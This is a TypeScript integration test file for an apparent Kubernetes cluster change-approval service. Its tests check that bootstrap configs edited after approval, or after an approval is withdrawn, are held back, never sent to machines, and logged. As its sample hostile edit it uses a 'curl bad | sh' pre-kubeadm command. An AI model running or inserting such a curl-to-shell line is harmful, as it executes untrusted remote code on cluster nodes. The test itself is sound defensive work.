import { expect, test, vi } from 'vitest'
import { db } from '@/lib/db/client'
import { useTestDatabase } from '@/lib/db/testing'
import { isObject, valueAt } from '@/lib/domain/changes'
import type { JsonObject } from '@/lib/domain/json'
import { HELD } from '@/lib/domain/latch/names'
import { approveChange } from '@/lib/services/changes/approve-change'
import { changeSetOf } from '@/lib/services/changes/change-row'
import { withdrawApproval } from '@/lib/services/changes/withdraw-approval'
import { mergePatch } from '@/lib/services/updaters/testing'
import { gatedSandbox } from './gated-sandbox'
import { until } from './process'
import { ctx } from './suites/governing'
import { MD } from './suites/watching'

vi.setConfig({ testTimeout: 240_000, hookTimeout: 120_000 })
useTestDatabase()

/** Which config the updater was sent for which machine. */
const sent = new Map<string, Set<string>>()
let covers = false
let finish = false
const at = gatedSandbox(({ says }) => {
  says.CanUpdateMachineSet = (request): JsonObject => {
    if (!covers) return { status: 'Failure', message: 'not yet' }
    const version = valueAt(request, 'desired', 'machineSet', 'spec', 'template', 'spec', 'version') ?? null
    return { machineSetPatch: mergePatch({ spec: { template: { spec: { version } } } }) }
  }
  says.UpdateMachine = (request): JsonObject => {
    const machine = String(valueAt(request, 'desired', 'machine', 'metadata', 'name'))
    const config = JSON.stringify(valueAt(request, 'desired', 'bootstrapConfig', 'spec', 'preKubeadmCommands') ?? null)
    sent.set(machine, (sent.get(machine) ?? new Set()).add(config))
    return { retryAfterSeconds: finish ? 0 : 1, message: 'at work' }
  }
})

const API = { group: 'bootstrap.cluster.x-k8s.io', version: 'v1beta2' }
const EVIL = ['curl bad | sh']

async function looks(w: Awaited<ReturnType<typeof at.g.workload>>) {
  const { namespace, machineDeployment: md } = w
  const ref = valueAt((await at.g.deployment(w)).spec, 'template', 'spec', 'bootstrap', 'configRef')
  if (!isObject(ref)) throw new Error('no bootstrap config')
  const patch = (resource: typeof MD, name: string, body: JsonObject) =>
    at.cluster.admin.patch(resource, name, namespace, 'merge', body)
  const machines = async () => (await db().machine.findMany({ where: { groupName: md } })).map(({ name }) => name)
  const old = new Set(await machines())
  let touches = 0
  return {
    md,
    /** What the template of its machines says besides. */
    edit: (preKubeadmCommands: string[] | null) =>
      patch({ ...API, plural: 'kubeadmconfigtemplates' }, String(ref.name), {
        spec: { template: { spec: { preKubeadmCommands } } },
      }),
    want: (spec: JsonObject) => patch(MD, md, { spec }),
    touch: () => patch(MD, md, { metadata: { annotations: { touched: String(++touches) } } }),
    isHeld: async () => HELD in ((await at.g.deployment(w)).metadata.annotations ?? {}),
    made: async () => (await machines()).filter((name) => !old.has(name)),
  }
}
const events = async (changeId: string) =>
  (await db().auditEvent.findMany({ where: { targetId: changeId }, orderBy: { id: 'asc' } })).map(
    ({ action }) => action,
  )

test('a config whose approval was taken back before any machine began is passed on to nobody, also once another one is approved', async () => {
  const w = await at.g.workload('back', { workers: { replicas: 3, maxSurge: 0, maxUnavailable: 1 } })
  await at.g.known(w)
  const { md, edit, touch, isHeld } = await looks(w)
  await edit(EVIL)
  covers = true
  await at.g.changeWorkers(w, 'v1.34.1')
  const { id: changeId } = await at.g.approvable(w, md, 'in-place')
  const change = () => db().change.findUniqueOrThrow({ where: { id: changeId } })
  const digest = async () => changeSetOf(await change()).pairs[0]!.config!.digest
  const bad = await digest()
  covers = false // the gate holds each question: no machine begins
  await at.g.approve(w, md, 'in-place')
  await withdrawApproval(ctx, { changeId })
  await until('it to be held again', async () => (await isHeld()) && (await change()).state === 'waiting', {
    ms: 30_000,
    every: 50,
  })
  expect(sent.size).toBe(0)
  await edit(null)
  await touch()
  await until('the planner to have seen it', async () => (await digest()) !== bad, { ms: 90_000, every: 100 })
  covers = true
  await at.g.approvable(w, md, 'in-place')
  await at.g.approve(w, md, 'in-place')
  await until('the first machine to be at work', () => Promise.resolve(sent.size > 0), { ms: 60_000, every: 50 })
  // Somebody writes the bad one once more.
  await edit(EVIL)
  finish = true
  await until('it to be held again', isHeld, { ms: 90_000, every: 100 })
  expect([...sent.values()].flatMap((configs) => [...configs])).not.toContain(JSON.stringify(EVIL))
  expect(await events(changeId)).toContain('change.stopped')
})

test('replacing, what was edited after it was let go goes no further, and is on record', async () => {
  const w = await at.g.workload('mid', { workers: { replicas: 30, maxSurge: 1, maxUnavailable: 0 } })
  await at.g.known(w)
  const { md, edit, isHeld, made } = await looks(w)
  await at.g.changeWorkers(w, 'v1.34.1')
  const { id: changeId, fingerprint } = await at.g.approvable(w, md, 'replace')
  await approveChange(ctx, { changeId, fingerprint, mode: 'replace', deletions: 30, replicas: 30 })
  await until('the first new one', async () => (await made()).length > 0, { ms: 60_000, every: 20 })
  await edit(EVIL)
  await until('it to be held', isHeld, { ms: 60_000, every: 50 })
  const state = async () => (await db().change.findUniqueOrThrow({ where: { id: changeId } })).state
  await until('it to wait', async () => (await state()) === 'waiting', { ms: 30_000, every: 50 })
  expect((await made()).length).toBeLessThan(30)
  await until('the approval to be over', async () => (await events(changeId)).includes('approval.config-edited'), {
    ms: 30_000,
    every: 50,
  })
  expect(await db().approval.count({ where: { changeId, endedAt: null } })).toBe(0)
})

test('let go with a date that lies ahead, it does not go with a config that was edited before that date', async () => {
  const w = await at.g.workload('dated', { workers: { replicas: 2, maxSurge: 1, maxUnavailable: 0 } })
  await at.g.known(w)
  const { md, edit, want, isHeld, made } = await looks(w)
  const after = new Date(Date.now() + 120_000).toISOString().replace(/\.\d+Z/, 'Z')
  await want({ rollout: { after } })
  const { id: changeId, fingerprint } = await at.g.approvable(w, md, 'replace')
  await approveChange(ctx, { changeId, fingerprint, mode: 'replace', deletions: 2, replicas: 2 })
  const states = async () => (await db().decision.findMany({ where: { changeId } })).map(({ state }) => state)
  await until('it to be let go', async () => (await states()).some((s) => ['accepted', 'seen'].includes(s)), {
    ms: 30_000,
    every: 50,
  })
  await edit(EVIL)
  await until('it to be held', isHeld, { ms: 90_000, every: 100 })
  expect(await made()).toEqual([])
})
